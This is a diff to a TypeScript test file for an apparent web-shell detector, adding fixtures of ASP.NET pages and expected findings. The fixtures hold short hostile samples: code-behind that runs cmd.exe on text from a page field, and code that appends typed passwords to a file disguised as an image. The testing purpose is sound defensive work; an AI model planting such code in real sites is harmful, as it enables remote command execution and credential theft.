@@ -40,7 +40,17 @@ const CASES: Readonly<Record<string, readonly [Readonly<Record<string, string>>,
       'a.aspx.cs':
         'public partial class A : System.Web.UI.Page { void Go(object s, System.EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + line.Text); } }',
     },
-    [`${STARTED} a.aspx.cs`],
+    [`${STARTED} a.aspx`],
+  ],
+  // What a control of the page holds is no name that nothing was ever assigned to.
+  password: [
+    {
+      'a.aspx':
+        '<%@ Page Language="C#" CodeFile="a.aspx.cs" Inherits="A" %><asp:TextBox id="PassBox" TextMode="Password" runat="server" />',
+      'a.aspx.cs':
+        'public partial class A : System.Web.UI.Page { void Go(object s, System.EventArgs e) { System.IO.File.AppendAllText(Server.MapPath("~/i.png"), PassBox.Text + "\\r\\n"); } }',
+    },
+    ['webshell.credentials-kept a.aspx'],
   ],
   assembled: [
     {
@@ -150,7 +160,9 @@ describe('a page is judged with the files that it takes in', () => {
       ({ artifact }) => artifact.collectedPath === placed(host, Object.keys(files)[0] ?? ''),
     );
     const shown = together?.evidence.flatMap((one) => (one.type === 'content' ? (one.path ?? []) : []));
-    if (together !== undefined && host !== 'alone') expect(new Set(shown).size).toBeGreaterThan(1);
+    // Of these the page only declares what its code holds.
+    if (together !== undefined && !/^(?:alone|behind|password)$/.test(host))
+      expect(new Set(shown).size).toBeGreaterThan(1);
   });
 
   it('tells a call once, by the page where it weighs most; what a part does by itself is told of the part, too', () => {
